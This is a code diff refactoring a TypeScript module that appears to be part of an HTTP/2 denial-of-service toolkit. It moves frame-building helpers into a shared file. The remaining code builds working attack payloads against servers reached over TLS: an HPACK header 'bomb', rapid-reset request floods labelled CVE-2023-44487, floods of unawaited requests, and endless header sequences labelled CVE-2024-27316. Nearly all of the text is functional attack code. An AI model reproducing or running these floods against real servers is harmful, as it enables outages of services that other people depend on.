@@ -1,23 +1,8 @@
 import type { Attack } from "../attack.ts";
 import { floodConnections } from "../flood_connections.ts";
+import { cancelFrame, flags, frame, get, preface } from "../http2_frame.ts";
 import { tlsConnection } from "../target.ts";
 
-const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 } as const;
-const flags = { none: 0, endStream: 1, endHeaders: 4 } as const;
-
-/** A frame (RFC 9113, 4.1). */
-function frame(type: keyof typeof types, { flag = 0, id = 0, body = Buffer.alloc(0) } = {}): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(body.length, 0, 3);
-  head[3] = types[type];
-  head[4] = flag;
-  head.writeUInt32BE(id, 5);
-  return Buffer.concat([head, body]);
-}
-
-const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame("settings")]);
-/** `GET https://x/`, by HPACK's static table. */
-const get = Buffer.from([0x82, 0x87, 0x84, 0x41, 1, "x".charCodeAt(0)]);
 /** Puts a header of 4 KB in the table, and names it again and again. */
 const bomb = Buffer.concat([
   get,
@@ -27,7 +12,6 @@ const bomb = Buffer.concat([
 ]);
 const ping = Buffer.alloc(8);
 const setting = Buffer.from([0, 4, 0, 0, 0xff, 0xff]);
-const cancel = Buffer.from([0, 0, 0, 8]);
 
 /** So many times, with the numbers of streams that have not been used: a client's are odd. */
 function onStreams(count: number, of: (id: number) => Buffer): () => Buffer {
@@ -51,7 +35,7 @@ const whole = flags.endHeaders | flags.endStream;
 
 const says: readonly (() => () => Buffer)[] = [
   /* Requests that are given up as soon as they are made (CVE-2023-44487). */
-  () => onStreams(500, (id) => Buffer.concat([request(id, whole), frame("reset", { id, body: cancel })])),
+  () => onStreams(500, (id) => Buffer.concat([request(id, whole), cancelFrame(id)])),
   /* Requests that nobody waits for. */
   () => onStreams(500, (id) => request(id, whole)),
   /* Headers without end (CVE-2024-27316). */
